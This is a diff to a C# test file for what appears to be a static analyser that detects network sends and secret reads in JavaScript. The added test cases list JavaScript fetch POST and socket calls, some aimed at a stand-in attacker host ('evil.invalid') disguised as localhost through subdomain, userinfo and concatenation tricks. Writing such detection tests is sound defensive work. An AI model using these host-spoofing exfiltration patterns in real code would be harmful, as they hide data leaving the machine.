@@ -242,4 +242,14 @@ public sealed class FlowTests
     [InlineData("const size = '1254401111'; require('http').request(x(size))", false)]
     public void A_number_is_an_address_where_one_is_expected(string code, bool isAddress) =>
         (Read.Script(code).Has("network.address") || Read.Script(code).Has("read.secret.metadata") || Read.Script(code).Facts.Any(fact => fact.Name.StartsWith("read.secret", StringComparison.Ordinal))).ShouldBe(isAddress);
+
+    [Theory]
+    [InlineData("fetch('http://localhost:3000/x', { method: 'POST', body: 'x' })", false)]
+    [InlineData("require('net').createConnection(port, '127.0.0.1')", false)]
+    [InlineData("fetch('http://localhost.evil.invalid/x', { method: 'POST', body: 'x' })", true)]
+    [InlineData("fetch('http://localhost@evil.invalid/x', { method: 'POST', body: 'x' })", true)]
+    [InlineData("fetch('http://localhost' + x + '/x', { method: 'POST', body: 'x' })", true)]
+    [InlineData("require('net').createConnection(port, host)", true)]
+    public void What_goes_to_the_machine_itself_leaves_nothing(string code, bool leaves) =>
+        (Read.Script(code).Has("network.send") || Read.Script(code).Has("network.socket")).ShouldBe(leaves, Read.Script(code).Names());
 }
